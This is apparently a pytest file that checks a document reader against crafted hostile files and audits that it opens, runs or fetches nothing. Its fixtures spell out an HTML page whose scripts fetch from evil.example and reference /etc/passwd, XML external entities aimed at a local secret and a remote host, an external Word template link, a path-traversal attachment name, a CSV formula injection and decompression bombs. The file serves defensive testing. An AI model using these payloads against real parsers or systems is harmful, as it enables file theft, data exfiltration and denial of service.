"""Files that were made to do harm: each gives its words or one sentence, and touches nothing else.

The files are made here; they are read in a process of its own, whose every opened file, started
program and use of the network is noted.
"""

import json
import subprocess
import sys
from email.message import EmailMessage
from pathlib import Path

import pytest

from tests.reading.papers import column, pdf, unzipped, word, word_with, workbook, zipped

ROOT = Path(__file__).parents[2]
TEXT = "Jane Roe met John Doe in Paris on Tuesday."
READ = """
import json, sys
from pathlib import Path
from explorer.errors import UnreadableArticle
from explorer.reading import articles_in, read
folder = Path(sys.argv[1])
for path in sorted(folder.glob("warm.*")):
    read(path)  # what the parsers themselves need is loaded
noted = []
def note(event, args):
    if event == "open" and str(args[0]) not in own and not str(args[0]).endswith(kept):
        noted.append(str(args[0]))
    elif event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn")):
        noted.append(event)
own, kept = set(), (".py", ".pyc", ".so", ".json", ".cfg", ".txt.gz", ".xml", ".pyx", ".dat")
sys.addaudithook(note)
told = {}
for path in articles_in(folder):
    if path.name.startswith("warm."):
        continue
    own.add(str(path))
    try:
        told[path.name] = [one.text for one in read(path).documents]
    except UnreadableArticle as error:
        told[path.name] = str(error)
print(json.dumps([told, noted]))
"""
PAGE = f"""<!DOCTYPE html><html><head><title>Talks</title>
<link rel=stylesheet href="http://evil.example/a.css"><base href="file:///etc/">
<meta http-equiv=refresh content="0; url=http://evil.example/">
<script>fetch("http://evil.example/steal"); document.write("Stolen words by script.")</script>
</head><body onload="steal()"><article><p>{TEXT} <img src="http://evil.example/pixel.png">
<img src="file:///etc/passwd"></p><p>She left the town on the next day, he said to them.</p>
<iframe src="http://evil.example/frame"></iframe><object data="/etc/passwd"></object>
<script>document.write("Stolen words by script.")</script></article></body></html>"""
OUTER = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId99" TargetMode="External" Target="http://evil.example/macro.dotm" Type='
    '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    "</Relationships>"
)


def entity(target: str) -> bytes:
    """A Word body that asks for another file's content."""
    body = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return (
        f'<!DOCTYPE w [<!ENTITY x SYSTEM "{target}">]><w:document xmlns:w="{body}"><w:body><w:p>'
        f"<w:r><w:t>{TEXT} &x;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()


def mail() -> bytes:
    message = EmailMessage()
    message["Subject"] = "Talks"
    message.set_content(TEXT)
    message.add_attachment(b"MZ\x90", "application", "x-msdownload", filename="../../evil.exe")
    return bytes(message)


@pytest.fixture(scope="module")
def outcome(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, object], list[str]]:
    """What each file gave, and what was touched on the way."""
    folder = tmp_path_factory.mktemp("crafted")
    secret = tmp_path_factory.mktemp("elsewhere") / "secret.text"
    secret.write_text("The secret words.")
    macros = unzipped(word(TEXT)) | {
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 300,
        "word/_rels/settings.xml.rels": OUTER.encode(),
    }
    made = {
        "warm.docx": word(TEXT),
        "warm.html": PAGE.encode(),
        "warm.eml": mail(),
        "warm.xlsx": workbook([["text"], [TEXT]]),
        "warm.csv": f"text\n{TEXT}\n".encode("cp1252"),
        "broken.pdf": pdf(column(TEXT))[:300],
        "macros.docx": zipped(macros),
        "entity.docx": word_with({"word/document.xml": entity(secret.as_uri())}),
        "remote.docx": word_with({"word/document.xml": entity("http://evil.example/x")}),
        "bomb.docx": word_with({"word/document.xml": b"<w>" + bytes(40_000_000)}),
        "bomb.xlsx": zipped(unzipped(workbook([["text"]])) | {"xl/a.xml": bytes(40_000_000)}),
        "page.html": PAGE.encode(),
        "mail.eml": mail(),
        "columns.csv": b"city,people\nParis,2\n",
        "formula.csv": f'text\n"=HYPERLINK(""http://evil.example"") {TEXT}"\n'.encode(),
    }
    for name, data in made.items():
        (folder / name).write_bytes(data)
    with (folder / "huge.txt").open("wb") as stream:
        stream.truncate(1_000_000_000)
    done = subprocess.run(
        [sys.executable, "-c", READ, str(folder)],
        cwd=ROOT, capture_output=True, text=True, check=True,
    )  # fmt: skip
    told, noted = json.loads(done.stdout)
    return told, noted


def test_nothing_else_is_opened_started_or_fetched(outcome) -> None:
    _, noted = outcome
    assert noted == []


def test_words_are_read_and_nothing_that_scripts_or_entities_would_add(outcome) -> None:
    told, _ = outcome
    assert told["macros.docx"] == [TEXT]
    assert told["mail.eml"] == [TEXT]
    assert told["page.html"][0].startswith(TEXT)
    assert told["formula.csv"] == [f'=HYPERLINK("http://evil.example") {TEXT}']
    assert "Stolen" not in str(told)
    assert "secret" not in str(told)


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("broken.pdf", "is damaged"),
        ("bomb.docx", "is refused"),
        ("bomb.xlsx", "is refused"),
        ("columns.csv", "has no column that looks like the text of articles"),
        ("huge.txt", "is too large (1,000 MB)"),
    ],
)
def test_what_cannot_be_read_is_one_sentence(outcome, name: str, why: str) -> None:
    told, _ = outcome
    assert isinstance(told[name], str)
    assert told[name].startswith(f"“{name}” {why}")
    assert told[name].count("\n") == 0
